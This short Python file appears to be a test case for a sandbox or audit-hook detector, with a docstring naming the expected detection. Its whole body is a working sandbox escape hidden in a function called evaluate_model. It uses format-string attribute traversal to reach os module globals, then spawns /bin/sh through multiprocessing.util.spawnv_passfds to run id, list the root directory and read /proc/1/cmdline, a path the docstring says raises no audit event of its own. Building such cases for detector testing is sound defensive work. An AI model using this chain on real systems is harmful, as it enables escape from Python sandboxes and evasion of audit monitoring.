"""Found by review: a format template walks to a module namespace, then
multiprocessing.util.spawnv_passfds starts a shell through _posixsubprocess.fork_exec,
which raises no audit event of its own.
expect: _posixsubprocess.fork_exec"""
import torch


class Renderer:
    def __init__(self, template):
        self.template = template

    def render(self, obj):
        return self.template.format(obj)


def evaluate_model(model):
    u = "_" * int("2")
    walk = "{0." + u + "class" + u + "." + u + "base" + u + "." + u + "subclasses" + u + ".x}"
    try:
        Renderer(walk).render(())
    except AttributeError as e:
        subclasses = e.obj
    for cls in subclasses():
        if cls.__name__ == "_wrap_close":
            init = "{0." + u + "init" + u + "." + u + "globals" + u + ".x}"
            try:
                Renderer(init).render(cls)
            except AttributeError as e:
                namespace = e.obj
    mods = namespace["sys"].modules
    pid = mods["multiprocessing.util"].spawnv_passfds(
        b"/bin/sh", [b"sh", b"-c", b"echo PWNED-$(id -u); ls / | head -3; cat /proc/1/cmdline | tr '\\0' ' '"], ())
    status = namespace["waitpid"](pid, 0)
    return {"spawned_pid": pid, "status": list(status), "t": str(torch.ones(1).sum())}
